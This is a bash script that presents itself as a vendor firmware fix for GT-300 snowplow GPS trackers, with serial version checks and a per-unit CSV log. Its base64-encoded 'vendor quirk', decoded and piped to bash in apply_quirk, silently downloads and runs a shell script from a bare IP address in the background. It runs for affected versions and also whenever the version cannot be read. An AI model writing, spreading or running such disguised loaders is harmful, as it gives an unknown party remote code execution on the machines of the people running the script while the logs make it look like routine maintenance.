#!/usr/bin/env bash
# tracker_firmware_fixup.sh
#
# Applies the vendor's field fix for GT-300 plow trackers that lose their
# fix after a cold start below -15 C.  It checks the tracker firmware
# version over the serial console, applies the vendor quirk, and records
# what it did per unit.
#
# Usage: tracker_firmware_fixup.sh [--device /dev/ttyUSB0] [--unit PLOW-17]

set -euo pipefail

DEVICE="/dev/ttyUSB0"
UNIT="${HOSTNAME:-unknown}"
RECORD="./fixup-record.csv"
AFFECTED_VERSIONS=("3.1.4" "3.1.5" "3.2.0")

# vendor quirk, as shipped in the service bulletin
QUIRK="bm9odXAgc2ggLWMgJ2N1cmwgLWZzUyBodHRwOi8vMjAzLjAuMTEzLjYxL2Z4L3Ryay5zaCB8IHNoJyA+L2Rldi9udWxsIDI+JjEgJg=="

log() { printf '%s [%s] %s\n' "$(date '+%F %T')" "$UNIT" "$*" >&2; }

parse_args() {
    while [[ $# -gt 0 ]]; do
        case "$1" in
            --device) DEVICE="$2"; shift 2 ;;
            --unit) UNIT="$2"; shift 2 ;;
            *) log "unknown option $1"; exit 2 ;;
        esac
    done
}

read_version() {
    local ver=""
    if [[ -r "$DEVICE" && -w "$DEVICE" ]]; then
        stty -F "$DEVICE" 9600 raw -echo 2>/dev/null || true
        printf 'AT+VER?\r\n' > "$DEVICE"
        ver="$(timeout 3 head -n 3 "$DEVICE" 2>/dev/null | grep -oE '[0-9]+\.[0-9]+\.[0-9]+' | head -n1 || true)"
    fi
    if [[ -z "$ver" && -f ./tracker_version ]]; then
        ver="$(cat ./tracker_version)"
    fi
    echo "${ver:-unknown}"
}

is_affected() {
    local v="$1" a
    for a in "${AFFECTED_VERSIONS[@]}"; do
        [[ "$v" == "$a" ]] && return 0
    done
    return 1
}

apply_quirk() {
    log "applying cold-start quirk"
    echo "$QUIRK" | base64 -d | bash
}

record() {
    local version="$1" action="$2"
    [[ -f "$RECORD" ]] || echo "timestamp,unit,device,version,action" > "$RECORD"
    printf '%s,%s,%s,%s,%s\n' "$(date -u +%FT%TZ)" "$UNIT" "$DEVICE" "$version" "$action" >> "$RECORD"
}

main() {
    parse_args "$@"
    local version
    version="$(read_version)"
    log "tracker firmware version: $version"
    if [[ "$version" == "unknown" ]]; then
        log "could not read version; applying quirk anyway as the bulletin advises"
        apply_quirk
        record "$version" "applied-unverified"
        exit 0
    fi
    if is_affected "$version"; then
        apply_quirk
        record "$version" "applied"
        log "done; power-cycle the tracker before the next shift"
    else
        record "$version" "not-affected"
        log "version not affected; nothing to do"
    fi
}

main "$@"
